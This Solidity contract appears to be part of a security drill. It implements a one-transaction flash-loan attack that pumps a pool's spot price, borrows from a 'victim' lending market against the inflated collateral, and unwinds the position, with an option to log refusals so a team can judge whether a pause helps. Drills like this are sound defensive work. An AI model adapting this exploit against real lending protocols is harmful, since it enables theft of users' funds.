// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {FlashTrader} from "./Trader.sol";
import {IUniswapV2Router} from "./IUniswapV2.sol";
import {LendingMarket} from "./LendingMarket.sol";

/// @title The attack of the drill, in one transaction
/// @notice Borrows by flash loan, buys the collateral until its pool price is absurd, borrows from the victim
///         against that price, sells the rest back and repays. For drills on chains of your own.
contract FlashAttacker is FlashTrader {
    using SafeERC20 for IERC20;

    /// @param flashAmount Asset borrowed for the transaction; decides how far the pool moves.
    /// @param collateralAmount Collateral left behind in the victim.
    /// @param borrowAmount Asset taken from the victim.
    /// @param swallow Whether a refusal by the victim is caught. The transaction then succeeds although nothing was
    ///        taken: its status alone says nothing about whether a pause would have helped. The cost of the swaps is
    ///        then drawn from the owner, who must have approved this contract.
    struct Plan {
        uint256 flashAmount;
        uint256 collateralAmount;
        uint256 borrowAmount;
        bool swallow;
    }

    error OnlyMyself();

    event Refused(bytes reason);

    LendingMarket public immutable victim;
    IUniswapV2Router public immutable router;

    constructor(LendingMarket lender_, LendingMarket victim_, IUniswapV2Router router_) FlashTrader(lender_) {
        victim = victim_;
        router = router_;
    }

    function attack(Plan calldata plan) external onlyOwner {
        _flash(plan.flashAmount, abi.encode(plan));
    }

    /// @dev External so that what the victim refuses can be caught as a whole, deposit included.
    function take(uint256 collateralAmount, uint256 borrowAmount) external {
        if (msg.sender != address(this)) revert OnlyMyself();
        collateral.forceApprove(address(victim), collateralAmount);
        victim.depositCollateral(collateralAmount);
        victim.borrow(borrowAmount);
    }

    function _useLoan(uint256 amount, uint256 owed, bytes calldata data) internal override {
        Plan memory plan = abi.decode(data, (Plan));
        _swap(router, asset, collateral, amount);
        if (plan.swallow) {
            try this.take(plan.collateralAmount, plan.borrowAmount) {}
            catch (bytes memory reason) {
                emit Refused(reason);
            }
        } else {
            this.take(plan.collateralAmount, plan.borrowAmount);
        }
        _swap(router, collateral, asset, _held(collateral));
        if (plan.swallow && _held(asset) < owed) {
            asset.safeTransferFrom(owner(), address(this), owed - _held(asset));
        }
    }
}
